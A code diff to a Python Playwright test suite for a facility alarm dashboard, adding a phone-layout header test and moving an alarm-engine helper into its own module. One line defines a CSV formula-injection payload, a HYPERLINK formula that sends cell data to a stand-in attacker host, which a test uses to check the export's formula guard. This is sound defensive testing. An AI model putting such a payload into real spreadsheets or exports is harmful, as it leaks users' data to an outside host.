@@ -10,10 +10,8 @@ tests/integration/test_dashboard_access.py::test_callback_by_role_table."""
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
-import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -24,7 +22,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from dashboards import ids
-from dashboards.app import DashboardServer
+from dashboards.app import PAGE_PATHS, DashboardServer
 from dashboards.queries import Queries
 from dashboards.sample import seed_sql, seed_users
 from devtools.services import MosquittoServer
@@ -32,11 +30,13 @@ from facility.config import DatabaseConfig, MqttConfig, Settings
 from gateway.alarms.journal import AlarmRecord
 from gateway.alarms.state import AlarmState, EventKind
 from gateway.alarms.store import AlarmStore
+from tests.browser.alarm_engine import Engine
 
 CRITICAL = "HT-PDP-001/dry_run"  # seeded unacknowledged, critical
 ACKED = "HT-TNK-001/level_low"  # seeded acknowledged by li.na, "checking"
 LOW = "HT-LGT-001/lamp_failures"  # seeded unacknowledged, low
 ESTATES_TZ = ZoneInfo("Asia/Shanghai")  # the demo estates (facility.toml [site] timezone)
+ENGINE_ASSETS = {a.partition("/")[0] for a in (CRITICAL, ACKED, LOW)}
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
 
@@ -73,55 +73,6 @@ def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
             yield Served(server.url, settings.database_url, bus.url, users, raised)
         finally:
             server.stop()
-
-
-class Engine:
-    """The real alarm engine for the seeded HT assets, on its own loop in a thread."""
-
-    def __init__(self, db_url: str, bus_url: str) -> None:
-        self.db_url, self.bus_url = db_url, bus_url
-        self.ready = threading.Event()
-        self._loop: asyncio.AbstractEventLoop | None = None
-        self._stop: asyncio.Event | None = None
-        self._thread = threading.Thread(target=lambda: asyncio.run(self._main()), daemon=True)
-
-    async def _main(self) -> None:
-        from device_profiles import load_library
-        from facility.mqtt import BrokerSettings
-        from gateway.alarms.alarmfile import parse_alarm_file
-        from gateway.alarms.definitions import compile_alarms
-        from gateway.alarms.service import AlarmService
-        from maintenance.store import LedgerStore
-
-        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
-        with LedgerStore(self.db_url) as ledger:
-            wanted = {a.partition("/")[0] for a in (CRITICAL, ACKED, LOW)}
-            assets = [a for a in ledger.assets() if a.asset_no in wanted]
-        alarm_set = compile_alarms(
-            assets, load_library(), parse_alarm_file("supervisors: []\n", "a.yaml")
-        )
-        with AlarmStore(self.db_url) as store:
-            service = AlarmService(
-                alarm_set, BrokerSettings.from_url(self.bus_url), store,
-                service_id="test-console", tick_s=0.2,
-            )  # fmt: skip
-            started = asyncio.Event()
-            task = asyncio.create_task(service.run(started))
-            await asyncio.wait_for(started.wait(), 20)
-            self.ready.set()
-            await self._stop.wait()
-            task.cancel()
-            await asyncio.gather(task, return_exceptions=True)
-
-    def __enter__(self) -> Engine:
-        self._thread.start()
-        assert self.ready.wait(30), "the alarm engine did not start"
-        return self
-
-    def __exit__(self, *_exc: object) -> None:
-        if self._loop is not None and self._stop is not None:
-            self._loop.call_soon_threadsafe(self._stop.set)
-        self._thread.join(20)
 
 
 @pytest.fixture
@@ -252,6 +203,57 @@ def test_phone_width_does_not_overflow(as_role: Callable[[str], Page]) -> None:
     assert width <= 390, f"the alarm page is {width} px wide in a 390 px screen"
 
 
+PHONE_HEADER_MAX_PX = 56  # one line (menu button, title, counter) is ~40 px; two would be ~75
+
+
+def test_phone_header_is_one_line_with_the_counter_and_a_menu_on_every_page(
+    sign_in_as: Callable[..., Page], served: Served
+) -> None:
+    page = sign_in_as(served.url, served.users["supervisor"], "/alarms")
+    page.set_viewport_size({"width": 390, "height": 844})
+    header = page.locator(_id(ids.HEADER))
+    menu = page.locator(_id(ids.MENU_BUTTON))
+
+    def header_fits(path: str) -> None:
+        height = header.evaluate("h => h.getBoundingClientRect().height")
+        assert height <= PHONE_HEADER_MAX_PX, f"{path}: the header is {height} px tall"
+        width = page.evaluate("document.documentElement.scrollWidth")
+        assert width <= 390, f"{path}: the page is {width} px wide in a 390 px screen"
+
+    for path in [*PAGE_PATHS.values(), "/asset/HT-PMP-001"]:
+        page.goto(served.url + path)
+        expect(page.locator("main h1").first).to_be_visible()
+        expect(page.locator(_id(ids.counter("critical")))).to_have_text("1")  # on every page
+        expect(page.locator(_id(ids.counter("critical")))).to_be_visible()
+        expect(menu).to_be_visible()
+        expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
+        header_fits(path)
+    # the menu opens the navigation, who is signed in and the language, and closes on a link
+    page.goto(served.url + "/alarms")
+    expect(row(page, CRITICAL)).to_be_visible()
+    menu.click()
+    expect(menu).to_have_attribute("aria-expanded", "true")
+    expect(page.locator(_id(ids.USER_BADGE))).to_be_visible()
+    expect(page.locator(_id(ids.LANG_TOGGLE))).to_be_visible()
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.locator(_id(ids.nav_link("workorders"))).click()
+    page.wait_for_url(f"{served.url}/workorders")
+    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
+    expect(menu).to_have_attribute("aria-expanded", "false")
+    header_fits("/workorders")
+    # in Chinese too (the language button is in the menu)
+    menu.click()
+    page.locator(_id(ids.LANG_TOGGLE)).click()
+    expect(menu).to_have_text("菜单")
+    menu.click()
+    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_hidden()
+    header_fits("/workorders (zh)")
+    # on a desktop the header is as before: no menu button, the links shown
+    page.set_viewport_size({"width": 1280, "height": 800})
+    expect(menu).to_be_hidden()
+    expect(page.locator(_id(ids.nav_link("workorders")))).to_be_visible()
+
+
 def test_journal_view_searches_and_exports_csv_with_the_formula_guard(
     as_role: Callable[[str], Page],
 ) -> None:
@@ -275,7 +277,7 @@ def test_journal_view_searches_and_exports_csv_with_the_formula_guard(
 def test_bulk_acknowledge_then_shelve_and_unshelve_through_the_engine(
     as_role: Callable[[str], Page], served: Served
 ) -> None:
-    with Engine(served.db_url, served.bus_url):
+    with Engine(served.db_url, served.bus_url, ENGINE_ASSETS):
         page = as_role("supervisor")
         tick(page, CRITICAL)
         tick(page, LOW)
